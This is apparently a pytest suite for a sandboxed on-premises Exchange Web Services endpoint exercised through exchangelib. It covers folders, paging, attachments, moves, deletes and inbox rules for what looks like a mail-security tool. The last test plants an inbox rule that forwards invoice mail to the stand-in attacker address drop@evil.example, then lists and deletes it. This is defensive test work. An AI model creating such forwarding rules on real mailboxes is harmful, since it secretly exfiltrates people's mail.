"""The sandbox's on-premises EWS endpoint, driven by the unmodified exchangelib client.

Each test pins one operation as exchangelib sends it (FindFolder, GetFolder, FindItem with
paging, GetItem, GetAttachment, MoveItem, DeleteItem, CreateFolder, GetInboxRules,
UpdateInboxRules) plus the sign-in and the hybrid split (Graph refuses the on-premises mailboxes).
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar
from urllib.parse import urlsplit

import httpx
import pytest
import requests
from exchangelib import BASIC, IMPERSONATION, Account, Configuration, Credentials, Folder, Version
from exchangelib.errors import (
    ErrorFolderExists,
    ErrorInboxRulesValidationError,
    ErrorItemNotFound,
    ErrorNonExistentMailbox,
    UnauthorizedError,
)
from exchangelib.items import HARD_DELETE, MOVE_TO_DELETED_ITEMS, SOFT_DELETE
from exchangelib.properties import Rule
from exchangelib.protocol import BaseProtocol
from exchangelib.version import EXCHANGE_2016

from m365sandbox import Sandbox, SandboxServer
from m365sandbox.ews import PATH, add_onprem_account, is_onprem
from m365sandbox.generator import generate_tenant

USER = "svc-ews@{domain}"
PASSWORD = "onprem-Service-pw-1"


class SandboxTrust(requests.adapters.HTTPAdapter):
    """exchangelib's HTTP adapter for these tests: requests to the sandbox verify its own CA."""

    ca_files: ClassVar[dict[str, str]] = {}
    """``host:port`` -> CA file."""

    def send(self, request: Any, *args: Any, **kwargs: Any) -> Any:
        ca = self.ca_files.get(urlsplit(str(request.url)).netloc.lower())
        if ca is not None:
            kwargs["verify"] = ca
        return super().send(request, *args, **kwargs)


@pytest.fixture(scope="module")
def onprem(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    sb = Sandbox(profile="fast")
    t = sb.add_tenant(generate_tenant(seed=41, users=30, onprem_share=0.5, messages_per_mailbox=12))
    other = sb.add_tenant(generate_tenant(seed=42, users=12, onprem_share=0.5, messages_per_mailbox=2))
    add_onprem_account(t, USER.format(domain=t.domain), PASSWORD)
    with SandboxServer(sb, host="127.0.0.1", port=0, state_dir=Path(tmp_path_factory.mktemp("ews"))) as srv:
        SandboxTrust.ca_files[urlsplit(srv.url).netloc.lower()] = str(srv.ca_file)
        previous, BaseProtocol.HTTP_ADAPTER_CLS = BaseProtocol.HTTP_ADAPTER_CLS, SandboxTrust
        try:
            yield {"sb": sb, "tenant": t, "other": other, "server": srv, "url": f"{srv.url}{PATH}"}
        finally:
            BaseProtocol.HTTP_ADAPTER_CLS = previous


def _config(env: dict[str, Any], password: str = PASSWORD) -> Configuration:
    return Configuration(service_endpoint=env["url"], auth_type=BASIC, version=Version(build=EXCHANGE_2016),
                         credentials=Credentials(USER.format(domain=env["tenant"].domain), password))


def _onprem_users(t: Any) -> list[dict[str, Any]]:
    return [u for uid, u in t.users.items() if is_onprem(t, uid)]


def _account(env: dict[str, Any], user: dict[str, Any], **kw: Any) -> Account:
    return Account(primary_smtp_address=user["mail"], config=_config(env, **kw), autodiscover=False,
                   access_type=IMPERSONATION)


def _busiest(env: dict[str, Any]) -> dict[str, Any]:
    t = env["tenant"]
    return max(_onprem_users(t), key=lambda u: t.mailboxes[u["id"]].message_count())


def test_generator_splits_mailboxes_between_cloud_and_onprem(onprem: dict[str, Any]) -> None:
    t = onprem["tenant"]
    on = _onprem_users(t)
    assert on and all(u["onPremisesSyncEnabled"] is True for u in on)
    assert all(t.recipients[u["id"]]["RecipientTypeDetails"] == "MailUser" for u in on)
    assert any(r["RecipientTypeDetails"] == "UserMailbox" for r in t.recipients.values())
    assert generate_tenant(seed=41, users=30).users[0]["id"] == t.users[next(iter(t.users))]["id"]


def test_graph_refuses_an_onprem_mailbox(onprem: dict[str, Any]) -> None:
    """Graph answers MailboxNotEnabledForRESTAPI for a mailbox hosted on-premises."""
    from tests.conftest import CLIENT_ID, SECRET

    sb, srv, t = onprem["sb"], onprem["server"], onprem["tenant"]
    sb.register_app(CLIENT_ID, secret=SECRET, redirect_uris=["https://127.0.0.1:9/cb"])
    sb.grant_consent(t.id, CLIENT_ID, tier="basic")
    with httpx.Client(verify=str(srv.ca_file)) as c:
        tok = c.post(f"{srv.url}/{t.id}/oauth2/v2.0/token", data={
            "grant_type": "client_credentials", "client_id": CLIENT_ID, "client_secret": SECRET,
            "scope": "https://graph.microsoft.com/.default"}).json()["access_token"]
        user = _onprem_users(t)[0]
        r = c.get(f"{srv.url}/v1.0/users/{user['id']}/messages", headers={"Authorization": f"Bearer {tok}"})
    assert r.status_code == 404 and r.json()["error"]["code"] == "MailboxNotEnabledForRESTAPI"


def test_wrong_password_is_refused_with_401(onprem: dict[str, Any]) -> None:
    acc = _account(onprem, _onprem_users(onprem["tenant"])[0], password="wrong")
    with pytest.raises(UnauthorizedError):
        acc.inbox.refresh()
    raw = httpx.post(onprem["url"], content=b"<x/>", verify=str(onprem["server"].ca_file))
    assert raw.status_code == 401 and raw.headers["www-authenticate"].startswith("Basic")


def test_cloud_mailbox_is_not_on_the_onprem_server(onprem: dict[str, Any]) -> None:
    t = onprem["tenant"]
    cloud = next(u for uid, u in t.users.items() if t.recipients.get(uid, {}).get("RecipientTypeDetails")
                 == "UserMailbox")
    with pytest.raises(ErrorNonExistentMailbox):
        _ = _account(onprem, cloud).root


def test_an_account_never_reaches_another_tenants_mailbox(onprem: dict[str, Any]) -> None:
    """Tenant A's service account impersonating tenant B's on-premises mailbox: no such mailbox."""
    victim = _onprem_users(onprem["other"])[0]
    with pytest.raises(ErrorNonExistentMailbox):
        _ = _account(onprem, victim).root


def test_getfolder_and_findfolder_walk_the_tree(onprem: dict[str, Any]) -> None:
    user = _busiest(onprem)
    mb = onprem["tenant"].mailboxes[user["id"]]
    acc = _account(onprem, user)
    assert acc.inbox.id == mb.well_known["inbox"]
    assert acc.inbox.total_count == len(mb.ids_in(mb.well_known["inbox"]))
    names = {f.name for f in acc.msg_folder_root.walk()}
    visible = {f["displayName"] for fid, f in mb.folders.items() if not mb.in_dumpster(fid)
               and fid != mb.well_known["msgfolderroot"]}
    assert visible <= names


def test_finditem_pages_and_getitem_returns_detection_fields(onprem: dict[str, Any]) -> None:
    user = _busiest(onprem)
    mb = onprem["tenant"].mailboxes[user["id"]]
    acc = _account(onprem, user)
    inbox_ids = set(mb.ids_in(mb.well_known["inbox"]))
    qs = acc.inbox.all().only("subject", "message_id", "author", "headers", "body", "datetime_received")
    qs.page_size = 3  # IndexedPageItemView MaxEntriesReturned=3: several pages
    got = list(qs)
    assert {m.id for m in got} == inbox_ids and len(got) > 3
    one = next(m for m in got if m.headers)
    stored = mb.items[one.id].merged()
    assert one.subject == stored["subject"] and one.message_id == stored["internetMessageId"]
    assert one.author.email_address == stored["from"]["emailAddress"]["address"]
    assert str(one.body) == stored["body"]["content"]
    assert {h.name for h in one.headers} == {h["name"] for h in stored["internetMessageHeaders"]}


def test_restriction_on_internet_message_id(onprem: dict[str, Any]) -> None:
    user = _busiest(onprem)
    mb = onprem["tenant"].mailboxes[user["id"]]
    target = mb.items[mb.ids_in(mb.well_known["inbox"])[0]].merged()
    acc = _account(onprem, user)
    found = list(acc.inbox.filter(message_id=target["internetMessageId"]).only("message_id"))
    assert [m.message_id for m in found] == [target["internetMessageId"]]


def test_attachment_content_through_getattachment(onprem: dict[str, Any]) -> None:
    t = onprem["tenant"]
    for user in _onprem_users(t):
        mb = t.mailboxes[user["id"]]
        with_att = [i for i in mb.items.values() if i.get("attachments") and not mb.in_dumpster(i.folder)]
        if with_att:
            break
    else:
        pytest.skip("no on-premises message with an attachment in this seed")
    item = with_att[0]
    acc = _account(onprem, user)
    msg = next(iter(acc.fetch(ids=[(item.id, None)], only_fields=["attachments"])))
    att = item.get("attachments")[0]
    assert msg.attachments[0].name == att["name"]
    assert msg.attachments[0].content == base64.b64decode(att["contentBytes"])


def test_createfolder_moveitem_and_deleteitem(onprem: dict[str, Any]) -> None:
    user = _onprem_users(onprem["tenant"])[1]
    mb = onprem["tenant"].mailboxes[user["id"]]
    acc = _account(onprem, user)
    folder = Folder(parent=acc.msg_folder_root, name="Quarantine test", folder_class="IPF.Note")
    folder.save()
    assert mb.folders[folder.id]["displayName"] == "Quarantine test"
    with pytest.raises(ErrorFolderExists):
        Folder(parent=acc.msg_folder_root, name="quarantine TEST", folder_class="IPF.Note").save()
    ids = mb.ids_in(mb.well_known["inbox"])[:4]
    imids = [mb.items[i].get("internetMessageId") for i in ids]
    moved = acc.bulk_move([(ids[0], None)], to_folder=folder)
    new_id = moved[0][0]
    assert ids[0] not in mb.items and mb.items[new_id].folder == folder.id
    assert isinstance(acc.bulk_move([(ids[0], None)], to_folder=folder)[0], ErrorItemNotFound)
    acc.bulk_delete([(ids[1], None)], delete_type=SOFT_DELETE)
    acc.bulk_delete([(ids[2], None)], delete_type=HARD_DELETE)
    acc.bulk_delete([(ids[3], None)], delete_type=MOVE_TO_DELETED_ITEMS)
    where = {i.get("internetMessageId"): i.folder for i in mb.items.values()}
    assert where[imids[1]] == mb.well_known["recoverableitemsdeletions"]
    assert where[imids[2]] == mb.well_known["recoverableitemspurges"]
    assert where[imids[3]] == mb.well_known["deleteditems"]
    assert not set(ids[1:]) & set(mb.items)


def test_inbox_rules_listed_and_deleted(onprem: dict[str, Any]) -> None:
    user = _onprem_users(onprem["tenant"])[2]
    mb = onprem["tenant"].mailboxes[user["id"]]
    rule = mb.add_rule({"displayName": "Forward invoices", "sequence": 1, "isEnabled": True,
                        "conditions": {"subjectContains": ["invoice"]},
                        "actions": {"forwardTo": [{"emailAddress": {"address": "drop@evil.example"}}],
                                    "moveToFolder": mb.well_known["archive"], "stopProcessingRules": True}})
    acc = _account(onprem, user)
    rules = {r.id: r for r in acc.rules}
    got = rules[rule["id"]]
    assert got.display_name == "Forward invoices"
    assert got.conditions.contains_subject_strings == ["invoice"]
    assert got.actions.forward_to_recipients[0].email_address == "drop@evil.example"
    assert got.actions.move_to_folder.folder_id.id == mb.well_known["archive"]
    acc.delete_rule(Rule(account=acc, id=rule["id"], display_name="x", priority=1))
    assert rule["id"] not in mb.rules
    with pytest.raises(ErrorInboxRulesValidationError):
        acc.delete_rule(Rule(account=acc, id=rule["id"], display_name="x", priority=1))
